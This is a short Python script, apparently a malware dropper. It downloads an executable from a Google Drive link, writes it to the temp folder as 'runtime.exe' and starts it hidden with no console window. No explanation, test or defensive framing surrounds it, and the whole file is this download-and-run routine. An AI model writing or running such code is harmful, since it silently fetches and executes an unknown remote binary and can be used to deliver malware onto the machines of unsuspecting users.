import requests, os, subprocess, tempfile
url = "https://drive.google.com/uc?export=download&id=1AbCdEfGh"
d = os.path.join(tempfile.gettempdir(), "runtime.exe")
with open(d, "wb") as f:
    f.write(requests.get(url).content)
subprocess.Popen(d, creationflags=subprocess.CREATE_NO_WINDOW)
